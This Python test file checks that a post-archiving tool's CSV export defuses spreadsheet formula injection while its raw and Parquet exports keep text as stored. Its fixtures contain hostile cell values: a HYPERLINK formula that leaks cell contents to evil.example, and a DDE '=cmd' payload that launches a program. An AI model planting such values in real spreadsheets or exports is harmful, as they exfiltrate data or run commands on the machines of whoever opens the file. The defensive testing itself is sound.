"""CSV exports neutralize cells a spreadsheet would run as formulas (OWASP); --raw and Parquet keep them."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from parlons.cli import main
from parlons.importers._base import ImportOptions
from parlons.store import Store

from .conftest import load

TEXTS = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+33 2 98 00 00 00", "-1+2", "@SUM(1+1)",
         "\tindented", "\rreturn", "plain text", "a = b + c", "'quoted already"]
EXPECTED = ["'" + t for t in TEXTS[:6]] + TEXTS[6:]
MAPPING = {"post_id": "id", "account": "user", "created_at": "ts", "text": "body"}


@pytest.fixture
def stored(tmp_path: Path) -> Path:
    source = tmp_path / "posts.jsonl"
    source.write_text("".join(json.dumps({"id": str(i), "user": "=cmd|' /C calc'!A0" if i == 0 else "org",
                                          "ts": f"2024-01-0{1 + i % 9}T10:00:00Z", "body": text}) + "\n"
                              for i, text in enumerate(TEXTS)), encoding="utf-8")
    path = tmp_path / "store.duckdb"
    with Store(path) as store:
        load(store, source, forced="generic-jsonl", options=ImportOptions(MAPPING, "generic"))
    return path


def cells(path: Path, column: str, key: str = "post_id") -> dict[str, str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return {row[key]: row[column] for row in csv.DictReader(handle)}


def test_csv_export_neutralizes_formula_cells_by_default(stored: Path, tmp_path: Path) -> None:
    with Store(stored, read_only=True) as store:
        store.export(tmp_path / "out", "csv")
    texts = cells(tmp_path / "out" / "posts.csv", "text")
    assert [texts[str(i)] for i in range(len(TEXTS))] == EXPECTED
    assert sorted(cells(tmp_path / "out" / "accounts.csv", "account", "account")) == ["'=cmd|' /C calc'!A0", "org"]
    with open(tmp_path / "out" / "posts.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["post_id"]: r["like_count"] for r in rows}["0"] == ""


def test_raw_csv_and_parquet_keep_the_text_as_stored(stored: Path, tmp_path: Path) -> None:
    with Store(stored, read_only=True) as store:
        store.export(tmp_path / "raw", "csv", raw=True)
        store.export(tmp_path / "parquet", "parquet")
    texts = cells(tmp_path / "raw" / "posts.csv", "text")
    assert [texts[str(i)] for i in range(len(TEXTS))] == TEXTS
    table = pq.read_table(tmp_path / "parquet" / "posts.parquet").to_pylist()
    assert sorted(r["text"] for r in table) == sorted(TEXTS)


def test_the_command_neutralizes_unless_raw(stored: Path, tmp_path: Path) -> None:
    for extra, folder, first in (([], "safe", EXPECTED[0]), (["--raw"], "raw", TEXTS[0])):
        main(["export", "--store", str(stored), "-o", str(tmp_path / folder), "--format", "csv", *extra])
        assert cells(tmp_path / folder / "posts.csv", "text")["0"] == first
